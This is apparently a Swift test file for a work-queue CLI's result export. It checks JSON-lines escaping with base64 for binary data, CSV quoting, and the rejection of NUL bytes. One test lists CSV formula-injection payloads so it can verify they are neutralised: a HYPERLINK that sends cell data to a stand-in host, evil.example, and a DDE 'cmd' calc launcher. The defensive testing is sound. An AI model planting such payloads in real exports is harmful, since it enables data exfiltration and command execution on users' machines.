import Foundation
import Testing
import WorkQueue
import WorkQueueRedis
@testable import WorkQueueCommand

/// How `workqueue results` writes a record: JSON lines (bytes that are not UTF-8 as base64) or
/// CSV (the raw bytes, quoted where needed).
@Suite struct ResultsEncodingTests {
    static let text = CompletionReader.Entry(shard: 2, record: CompletionRecord(
        id: "1764000000123-7", item: "say \"hi\"\n\tnow\\é", result: "a,b", attempt: 3, worker: "pod-1:abc"))
    static let binary = CompletionReader.Entry(shard: 0, record: CompletionRecord(
        id: "1764000000124-0", item: WorkItem([0xFF, 0x00, 0x41]), result: "ok", attempt: 1, worker: "w"))

    static func encoded(_ entries: [CompletionReader.Entry], csv: Bool, sharded: Bool) throws -> String {
        var writer = RecordWriter(csv: csv, sharded: sharded)
        for entry in entries { try writer.append(entry) }
        return String(decoding: writer.buffer, as: UTF8.self)
    }

    @Test func jsonLinesEscapeTextAndGiveOtherBytesAsBase64() throws {
        let lines = try Self.encoded([Self.text, Self.binary], csv: false, sharded: true).split(separator: "\n")
        #expect(lines.count == 2)
        #expect(lines[0] == #"{"id":"1764000000123-7","time_ms":1764000000123,"shard":2,"item":"say \"hi\"\n\tnow\\é","#
            + #""result":"a,b","attempt":3,"worker":"pod-1:abc"}"#)
        let first = try #require(try JSONSerialization.jsonObject(with: Data(lines[0].utf8)) as? [String: Any])
        #expect(first["item"] as? String == Self.text.record.item.string, "decodes back to the item")
        let second = try #require(try JSONSerialization.jsonObject(with: Data(lines[1].utf8)) as? [String: Any])
        #expect(second["item"] == nil)
        #expect(second["item_base64"] as? String == "/wBB")
        #expect(Data(base64Encoded: second["item_base64"] as? String ?? "").map(Array.init) == [0xFF, 0x00, 0x41])
        #expect(!(try Self.encoded([Self.text], csv: false, sharded: false)).contains("shard"))
    }

    static let binaryWithoutNUL = CompletionReader.Entry(shard: 0, record: CompletionRecord(
        id: "1764000000124-0", item: WorkItem([0xFF, 0x41]), result: "ok", attempt: 1, worker: "w"))

    @Test func csvQuotesOnlyWhereNeededAndKeepsTheRawBytes() throws {
        let text = try Self.encoded([Self.text, Self.binaryWithoutNUL], csv: true, sharded: false)
        #expect(text.hasPrefix("1764000000123-7,1764000000123,3,pod-1:abc,\"say \"\"hi\"\"\n\tnow\\é\",\"a,b\"\n"))
        var writer = RecordWriter(csv: true, sharded: false)
        try writer.append(Self.binaryWithoutNUL)
        #expect(writer.buffer == Array("1764000000124-0,1764000000124,1,w,".utf8) + [0xFF, 0x41] + Array(",ok\n".utf8))
    }

    /// Issue 27: cells a spreadsheet would evaluate get a leading quote (and are quoted).
    @Test func csvNeutralisesCellsThatStartAFormula() throws {
        let cells = [#"=HYPERLINK("http://evil.example/?x="&A1,"click")"#, "+1+cmd|'/C calc'!A0", "@SUM(1,2)", "-2+3",
                     "\tTAB", "\rCR", "plain", "a=b"]
        for (index, cell) in cells.enumerated() {
            let entry = CompletionReader.Entry(shard: 0, record: CompletionRecord(
                id: "1-\(index)", item: WorkItem(cell), result: cell, attempt: 1, worker: cell))
            let line = try Self.encoded([entry], csv: true, sharded: false)
            let fields = line.dropFirst("1-\(index),1,1,".count)
            let quoted = "\"" + cell.replacingOccurrences(of: "\"", with: "\"\"") + "\""
            if ["=", "+", "-", "@", "\t", "\r"].contains(where: { cell.hasPrefix($0) }) {
                let neutral = "\"'" + cell.replacingOccurrences(of: "\"", with: "\"\"") + "\""
                #expect(fields == "\(neutral),\(neutral),\(neutral)\n", "\(cell)")
            } else {
                let plain = cell.contains(",") ? quoted : cell
                #expect(fields == "\(plain),\(plain),\(plain)\n", "\(cell)")
            }
        }
    }

    /// Issue 27: a NUL byte is never written raw into CSV: the record is refused, nothing of it
    /// written (JSON lines carry it).
    @Test func csvRefusesANULByte() throws {
        var writer = RecordWriter(csv: true, sharded: false)
        #expect(throws: CommandError.self) { try writer.append(Self.binary) }
        #expect(writer.buffer.isEmpty)
        #expect(ExitStatus.code(for: CommandError.csvNUL(recordID: "1-0")) == 78)
        #expect(try Self.encoded([Self.binary], csv: false, sharded: false).contains(#""item_base64":"/wBB""#))
    }
}
